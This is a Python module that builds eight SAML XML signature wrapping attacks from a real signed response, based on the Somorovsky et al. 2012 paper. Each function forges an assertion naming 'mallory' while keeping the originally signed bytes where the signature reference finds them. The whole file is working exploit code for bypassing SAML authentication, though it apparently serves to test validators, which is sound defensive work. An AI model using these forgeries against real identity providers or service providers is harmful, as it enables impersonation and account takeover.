"""The eight shapes of signature wrapping, made of a real signed response: each says 'mallory' where a naive reader
looks, and keeps the signed bytes where the signature's reference finds them.

Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012.
"""

import copy

from lxml import etree

NAMES = {
    "p": "urn:oasis:names:tc:SAML:2.0:protocol", "a": "urn:oasis:names:tc:SAML:2.0:assertion",
    "d": "http://www.w3.org/2000/09/xmldsig#",
}


def find(element, path):
    return element.find(path, NAMES)


def forged(element, identifier="_forged"):
    """A copy that is about mallory, under another id and without its signature."""
    copied = copy.deepcopy(element)
    copied.set("ID", identifier)
    for signature in copied.findall("d:Signature", NAMES):
        copied.remove(signature)
    for name in copied.iter("{%s}NameID" % NAMES["a"]):
        name.text = "mallory"
    return copied


def _parse(xml):
    return etree.fromstring(xml.encode())


def response_in_its_signature(xml):
    original = _parse(xml)
    root = forged(original)
    signature = copy.deepcopy(find(original, "d:Signature"))
    inner = copy.deepcopy(original)
    inner.remove(find(inner, "d:Signature"))
    signature.append(inner)
    root.insert(1, signature)
    return etree.tostring(root)


def response_beside_its_signature(xml):
    original = _parse(xml)
    root = forged(original)
    inner = copy.deepcopy(original)
    signature = find(inner, "d:Signature")
    inner.remove(signature)
    root.insert(1, inner)
    root.insert(2, signature)
    return etree.tostring(root)


def assertion_before_the_signed_one(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    signed.addprevious(forged(signed))
    return etree.tostring(root)


def assertion_around_the_signed_one(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    wrapper = forged(signed)
    root.replace(signed, wrapper)
    wrapper.append(signed)
    return etree.tostring(root)


def assertion_with_the_signature_of_another(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    wrapper = forged(signed)
    signature = find(signed, "d:Signature")
    signed.remove(signature)
    wrapper.insert(1, signature)
    signed.addprevious(wrapper)
    return etree.tostring(root)


def signed_assertion_within_the_signature(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    wrapper = forged(signed)
    signature = find(signed, "d:Signature")
    signed.remove(signature)
    root.replace(signed, wrapper)
    signature.append(signed)
    wrapper.insert(1, signature)
    return etree.tostring(root)


def assertion_within_extensions(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    extensions = etree.Element("{%s}Extensions" % NAMES["p"])
    extensions.append(forged(signed, signed.get("ID")))
    root.insert(1, extensions)
    return etree.tostring(root)


def signed_assertion_within_an_object(xml):
    root = _parse(xml)
    signed = find(root, "a:Assertion")
    wrapper = forged(signed, signed.get("ID"))
    signature = find(signed, "d:Signature")
    signed.remove(signature)
    root.replace(signed, wrapper)
    holder = etree.SubElement(signature, "{%s}Object" % NAMES["d"])
    holder.append(signed)
    wrapper.insert(1, signature)
    return etree.tostring(root)


OF_RESPONSES = [response_in_its_signature, response_beside_its_signature]
OF_ASSERTIONS = [
    assertion_before_the_signed_one, assertion_around_the_signed_one, assertion_with_the_signature_of_another,
    signed_assertion_within_the_signature, assertion_within_extensions, signed_assertion_within_an_object]
